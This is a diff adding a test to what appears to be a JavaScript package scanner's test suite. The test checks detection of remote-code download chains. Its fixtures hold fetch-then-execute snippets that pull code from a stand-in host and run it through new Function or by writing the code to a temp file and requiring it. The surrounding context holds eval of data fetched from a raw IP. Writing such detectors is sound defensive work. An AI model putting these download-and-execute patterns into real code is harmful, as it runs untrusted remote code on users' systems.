@@ -136,6 +136,19 @@ axios.get('http://198.51.100.7/cfg').then((res) => { eval(res.data.x); });
     expect(['high', 'critical']).toContain(ip.level);
   });
 
+  it('follows promise chains and files written from a download, then required', () => {
+    const chained = scan({ 'index.js': "fetch('https://cdn.example.org/rt.js').then((r) => r.text()).then((src) => new Function('require', src)(require));\n" });
+    expect(chained.ids).toContain('remote-code/download');
+    const written = scan({
+      'index.js': `const fs = require('fs'), os = require('os'), path = require('path');
+const file = path.join(os.tmpdir(), 'x.js');
+fetch('https://cdn.example.org/x.js').then((r) => r.text()).then((js) => { fs.writeFileSync(file, js); require(file); });
+`,
+    });
+    expect(written.ids).toContain('remote-code/download');
+    expect(['medium', 'high', 'critical']).toContain(written.level);
+  });
+
   it('an .exe downloaded over plain HTTP from a raw IP and run at install is high', () => {
     const r = scan({
       'install.js': `const https = require('http'), fs = require('fs'), os = require('os'), path = require('path');
